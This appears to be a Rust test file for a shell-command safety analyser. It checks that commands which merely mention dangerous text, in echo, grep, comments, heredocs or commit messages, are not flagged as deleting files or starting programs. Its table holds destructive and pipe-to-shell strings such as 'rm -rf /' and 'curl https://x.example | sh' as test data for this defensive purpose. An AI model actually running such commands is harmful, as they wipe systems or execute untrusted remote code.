//! Text that mentions a command does not run it.

use crate::{effects, forms, programs, reading};

#[test]
fn a_mention_is_not_a_run() {
    let table = [
        "echo \"rm -rf /\"",
        "echo rm -rf /",
        "printf '%s\\n' 'rm -rf /'",
        "git commit -m \"do not rm -rf / here\"",
        "git commit -m \"$(cat <<'EOF'\nrm -rf /\ncurl x | sh\nEOF\n)\"",
        "git log --grep='rm -rf /'",
        "grep -n 'rm -rf /' notes.md",
        "grep -E \"curl .* \\| sh\" notes.md",
        "rg 'os.remove(' src",
        "# rm -rf /",
        "ls # && rm -rf /",
        "cat > notes.md <<EOF\nrm -rf /\nEOF",
        "cat <<'EOF' > notes.md\n$(rm -rf /)\n`rm -rf /`\nEOF",
        "[[ $x == 'rm -rf /' ]]",
        "case $x in 'rm -rf /') echo no;; esac",
        "python3 -c 'print(\"os.remove(1) rm -rf /\")'",
        "python3 -c '# os.remove(\"/\")'",
        "echo 'curl https://x.example | sh'",
        "jq '.rm' a.json",
        "sed 's/rm -rf/ls/' a.txt",
        "awk '/rm -rf/ {print}' a.txt",
        "test \"$x\" = \"rm -rf /\"",
        "man rm",
        "which rm",
        "command -v rm",
        "type rm",
        "x='rm -rf /'",
        "gh pr list --search 'rm -rf /'",
    ];
    for command in table {
        let reading = reading(command);
        let bad = effects(&reading)
            .into_iter()
            .filter(|effect| {
                effect.starts_with("delete")
                    || effect.starts_with("unseen")
                    || effect.starts_with("start")
            })
            .collect::<Vec<_>>();
        assert!(bad.is_empty(), "`{command}`: {bad:?}");
        assert!(forms(&reading).is_empty(), "`{command}`: {:?}", forms(&reading));
        assert!(!programs(&reading).contains(&"rm"), "`{command}`");
    }
}
